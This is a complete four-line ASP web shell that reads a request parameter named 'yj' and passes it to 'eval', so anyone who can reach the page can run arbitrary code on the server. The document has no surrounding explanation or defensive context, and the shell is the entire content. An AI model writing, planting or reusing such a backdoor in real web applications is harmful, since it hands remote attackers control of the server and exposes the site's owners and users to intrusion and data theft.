<%
Dim cmd
cmd = Request.Item("yj")
eval cmd
%>
